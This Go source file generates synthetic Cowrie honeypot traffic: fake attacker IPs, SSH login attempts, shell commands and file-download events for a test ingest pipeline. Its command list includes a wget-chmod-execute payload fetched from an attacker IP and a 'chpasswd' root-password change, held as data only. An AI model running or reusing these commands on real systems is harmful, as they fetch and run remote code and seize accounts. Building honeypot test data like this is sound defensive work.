// Package seeder generates synthetic honeypot sensor traffic in the cowrie
// record format accepted by the ingest API.
package seeder

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"sort"
	"time"

	"github.com/brianvoe/gofakeit/v6"
)

// Options shapes the generated traffic.
type Options struct {
	// Attackers is the size of the source address pool. A small pool produces
	// repeated sources and therefore rapid-reconnect and brute-force activity.
	Attackers int
	Sensors   []string
	Ports     []int
	// Spread is how far back from the reference time sessions start.
	Spread time.Duration
}

func DefaultOptions() Options {
	return Options{
		Attackers: 25,
		Sensors:   []string{"trap-ssh-01", "trap-ssh-02"},
		Ports:     []int{22, 2222, 23, 80, 443, 53, 8080},
		Spread:    time.Hour,
	}
}

var (
	clientVersions = []string{
		"SSH-2.0-libssh_0.9.6",
		"SSH-2.0-Go",
		"SSH-2.0-OpenSSH_8.9p1",
		"SSH-2.0-PuTTY_Release_0.78",
		"SSH-2.0-paramiko_2.11.0",
	}
	usernames = []string{"root", "admin", "ubuntu", "pi", "oracle", "test", "user", "git"}
	commands  = []string{
		"uname -a",
		"cat /proc/cpuinfo",
		"whoami",
		"cd /tmp; wget http://%s/bins.sh; chmod +x bins.sh; ./bins.sh",
		"echo 'root:%s' | chpasswd",
		"ps aux | grep miner",
		"free -m",
	}
)

// timestampLayout is RFC3339 with fixed-width fractions, so records sort lexically.
const timestampLayout = "2006-01-02T15:04:05.000000Z"

// Generator produces sessions. It is not safe for concurrent use.
type Generator struct {
	faker     *gofakeit.Faker
	opts      Options
	attackers []string
}

// New returns a Generator. Equal seeds yield equal traffic.
func New(seed int64, opts Options) *Generator {
	def := DefaultOptions()
	if opts.Attackers <= 0 {
		opts.Attackers = def.Attackers
	}
	if len(opts.Sensors) == 0 {
		opts.Sensors = def.Sensors
	}
	if len(opts.Ports) == 0 {
		opts.Ports = def.Ports
	}
	if opts.Spread <= 0 {
		opts.Spread = def.Spread
	}

	f := gofakeit.New(seed)
	attackers := make([]string, opts.Attackers)
	for i := range attackers {
		attackers[i] = f.IPv4Address()
	}
	return &Generator{faker: f, opts: opts, attackers: attackers}
}

// Session returns the records of one attacker session starting at start, in
// time order: connect, client version, logins, then commands and a download
// when a login succeeded, and finally the close.
func (g *Generator) Session(start time.Time) []map[string]any {
	f := g.faker
	base := map[string]any{
		"src_ip":   g.attackers[f.Number(0, len(g.attackers)-1)],
		"dst_port": g.opts.Ports[f.Number(0, len(g.opts.Ports)-1)],
		"session":  f.LetterN(12),
		"sensor":   g.opts.Sensors[f.Number(0, len(g.opts.Sensors)-1)],
	}
	at := start
	var out []map[string]any
	emit := func(eventID string, fields map[string]any) {
		rec := make(map[string]any, len(base)+len(fields)+2)
		for k, v := range base {
			rec[k] = v
		}
		for k, v := range fields {
			rec[k] = v
		}
		rec["eventid"] = eventID
		rec["timestamp"] = at.UTC().Format(timestampLayout)
		out = append(out, rec)
		at = at.Add(time.Duration(f.Number(50, 2500)) * time.Millisecond)
	}

	emit("cowrie.session.connect", map[string]any{"protocol": "ssh"})
	emit("cowrie.client.version", map[string]any{"version": f.RandomString(clientVersions)})

	success := false
	for i, n := 0, f.Number(1, 6); i < n && !success; i++ {
		success = f.Number(1, 100) <= 15
		id := "cowrie.login.failed"
		if success {
			id = "cowrie.login.success"
		}
		emit(id, map[string]any{
			"username": f.RandomString(usernames),
			"password": f.Password(true, true, true, false, false, f.Number(4, 12)),
		})
	}

	if success {
		host := f.IPv4Address()
		for i, n := 0, f.Number(1, 4); i < n; i++ {
			cmd := f.RandomString(commands)
			switch cmd {
			case commands[3]:
				cmd = fmt.Sprintf(cmd, host)
			case commands[4]:
				cmd = fmt.Sprintf(cmd, f.Password(true, true, true, false, false, 10))
			}
			emit("cowrie.command.input", map[string]any{"input": cmd})
		}
		if f.Bool() {
			url := fmt.Sprintf("http://%s/%s", host, f.RandomString([]string{"bins.sh", "x86_64", "mips", "kworker"}))
			sum := sha256.Sum256([]byte(url))
			emit("cowrie.session.file_download", map[string]any{
				"url":     url,
				"outfile": "var/lib/cowrie/downloads/" + hex.EncodeToString(sum[:]),
				"shasum":  hex.EncodeToString(sum[:]),
			})
		}
	}

	emit("cowrie.session.closed", map[string]any{"duration": at.Sub(start).Seconds()})
	return out
}

// Sessions generates n sessions spread across opts.Spread before now, merged
// into timestamp order.
func (g *Generator) Sessions(n int, now time.Time) []map[string]any {
	var out []map[string]any
	for i := 0; i < n; i++ {
		offset := time.Duration(g.faker.Number(0, int(g.opts.Spread/time.Millisecond))) * time.Millisecond
		out = append(out, g.Session(now.Add(-offset))...)
	}
	sort.SliceStable(out, func(i, j int) bool {
		return out[i]["timestamp"].(string) < out[j]["timestamp"].(string)
	})
	return out
}
